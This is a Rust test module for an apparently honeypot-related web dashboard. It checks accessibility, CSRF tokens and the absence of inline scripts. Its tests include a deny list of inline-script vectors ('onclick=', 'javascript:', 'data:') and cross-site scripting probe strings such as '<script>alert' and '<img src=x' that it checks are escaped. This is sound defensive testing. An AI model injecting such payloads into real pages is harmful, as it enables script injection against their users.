    add("campaign", desk_page(&at("/campaigns/1"), vec![Crumb::new("/attacks", t.nav.attacks)], head, rows));
    let f = finding(1, 3, FindingState::Resolved);
    let people = vec![Some("林值勤".to_owned())];
    let (head, rows) = desk::finding::draw(&at("/findings/1"), &f, Past::default(), Some("林值勤"), &people, Some("t"));
    add("finding", desk_page(&at("/findings/1"), vec![Crumb::new("/findings", t.nav.findings)], head, rows));
    let l = at("/keys");
    let keys = vec![Row::Full(Panel::new("keys-page", t.keys.title, vec![Body::Keys { t }]))];
    add("keys", desk_page(&l, Vec::new(), Head::new(t.keys.title, t.keys.lead), keys));
    more(lang, theme, &mut out);
    out
}

/// A page of the door, for the gallery.
pub(crate) fn door(look: &Look, head: Head, steps: Option<(usize, usize)>, body: Vec<Body>) -> String {
    let f = Frame { me: None, nav: Vec::new(), ..frame(look, &head.title) };
    DoorPage { f, head, steps, body, wide: steps.is_some() }.render().unwrap()
}

fn every(check: impl Fn(&Drawn, &'static str)) {
    for lang in Lang::ALL {
        for theme in ["auto", "light", "dark"] {
            for page in pages(lang, theme) {
                check(&page, lang.word());
            }
        }
    }
}

#[test]
fn no_page_holds_anything_inline() {
    every(|page, lang| {
        let html = page.html.to_ascii_lowercase();
        for never in [
            " style=",
            "<style",
            " onclick=",
            " onload=",
            " onsubmit=",
            "javascript:",
            "hx-on",
            "http://www.w3",
            "data:",
        ] {
            assert!(!html.contains(never), "{lang} {} holds {never}", page.name);
        }
        for script in html.split("<script").skip(1) {
            assert!(script.starts_with(" src=\"/assets/"), "{lang} {}: an inline script", page.name);
        }
    });
}

#[test]
fn hostile_text_is_escaped() {
    let mut seen = 0;
    for page in pages(Lang::ZhTw, "auto") {
        assert!(!page.html.contains("<script>alert"), "{}", page.name);
        assert!(!page.html.contains("<img src=x"), "{}", page.name);
        seen += page.html.matches("&#60;script&#62;alert(1)").count();
    }
    assert!(seen >= 3, "the hostile text must be on several pages, escaped: {seen}");
}

#[test]
fn every_page_has_its_landmarks() {
    every(|page, lang| {
        let html = &page.html;
        let place = format!("{lang} {}", page.name);
        assert!(html.contains(&format!("<html lang=\"{}\"", lang.parse::<Lang>().unwrap().html())), "{place}");
        assert_eq!(html.matches("<h1").count(), 1, "{place}");
        assert_eq!(html.matches("<main").count(), 1, "{place}");
        assert!(html.contains("class=\"skip\" href=\"#main\""), "{place}");
        assert_eq!(html.matches("<table").count(), html.matches("<caption").count(), "{place}");
        for form in html.split("<form method=\"post\"").skip(1) {
            assert!(
                form.split("</form>").next().unwrap().contains("name=\"csrf\""),
                "{place}: a form without its token"
            );
        }
    });
}

/// Every id once, and every `for`, `aria-labelledby` and `aria-describedby` leads somewhere.
#[test]
fn ids_are_unique_and_found() {
    every(|page, lang| {
        let values = |name: &str| -> Vec<&str> {
            page.html.split(&format!(" {name}=\"")).skip(1).filter_map(|rest| rest.split('"').next()).collect()
        };
        let mut ids = values("id");
        let count = ids.len();
        ids.sort_unstable();
        let doubled: Vec<_> = ids.windows(2).filter(|pair| pair[0] == pair[1]).map(|pair| pair[0]).collect();
        assert_eq!(doubled, Vec::<&str>::new(), "{lang} {} of {count}", page.name);
        for name in ["for", "aria-labelledby", "aria-describedby"] {
            for target in values(name) {
                assert!(ids.binary_search(&target).is_ok(), "{lang} {}: {name} {target} leads nowhere", page.name);
            }
        }
    });
}

#[test]
fn the_english_pages_hold_no_chinese_of_ours() {
    // Names of stored things stay as people wrote them.
    let stored =
        ["誘捕", "花蓮", "臺東", "宜蘭", "新竹", "林值勤", "陳情資", "王小明科長", "邊界防火牆", "清單輸出", "中文"];
    for page in pages(Lang::En, "auto") {
        let mut html = page.html;
        for name in stored {
            html = html.replace(name, "");
        }
        let chinese: String = html.chars().filter(|c| text::lint::is_cjk(*c)).take(40).collect();
        assert_eq!(chinese, "", "{}", page.name);
    }
}

/// Every word of the catalogue is used by a page: a word nobody reads is not kept right.
#[test]
fn no_word_of_the_catalogue_is_dead() {
    fn read(dir: &Path, into: &mut String) {
        for entry in std::fs::read_dir(dir).unwrap() {
            let path = entry.unwrap().path();
            if path.is_dir() {
                read(&path, into);
            } else {
                into.push_str(&std::fs::read_to_string(&path).unwrap());
            }
        }
    }
    let root = Path::new(env!("CARGO_MANIFEST_DIR"));
    let mut text = String::new();
    for part in ["src", "templates"] {
        read(&root.join(part), &mut text);
    }
    let used = |name: &str| {
        text.match_indices(&format!(".{name}")).any(|(at, word)| {
            !text
                .get(at + word.len()..)
                .unwrap_or_default()
                .starts_with(|c: char| c.is_ascii_alphanumeric() || c == '_')
        })
    };
    let dead: Vec<String> = text::CATALOGUE
        .iter()
        .flat_map(|(group, entries)| entries.iter().map(move |entry| (group, entry.key)))
        .filter(|(_, key)| !used(key))
        .map(|(group, key)| format!("{group}.{key}"))
        .collect();
    assert_eq!(dead, Vec::<String>::new());
}

/// Writes the gallery where `LIANFANG_GALLERY` says.
#[test]
fn gallery() {
    let mut index = String::new();
    let all: Vec<(String, String)> = Lang::ALL
        .into_iter()
        .flat_map(|lang| ["light", "dark"].map(|theme| (lang, theme)))
        .flat_map(|(lang, theme)| pages(lang, theme).into_iter().map(move |page| (lang, theme, page)))
        .map(|(lang, theme, page)| (format!("{}-{}-{theme}.html", page.name, lang.word()), page.html))
        .collect();
    assert!(all.len() > 20);
    let Some(dir) = std::env::var_os("LIANFANG_GALLERY") else { return };
    let dir = Path::new(&dir);
    std::fs::create_dir_all(dir.join("assets")).unwrap();
    for asset in assets::ALL {
        std::fs::write(dir.join(asset.url.trim_start_matches('/')), asset.bytes).unwrap();
    }
    for (name, html) in all {
        writeln!(index, "<a href=\"{name}\">{name}</a><br>").unwrap();
        std::fs::write(dir.join(name), html).unwrap();
    }
    std::fs::write(dir.join("index.html"), index).unwrap();
}
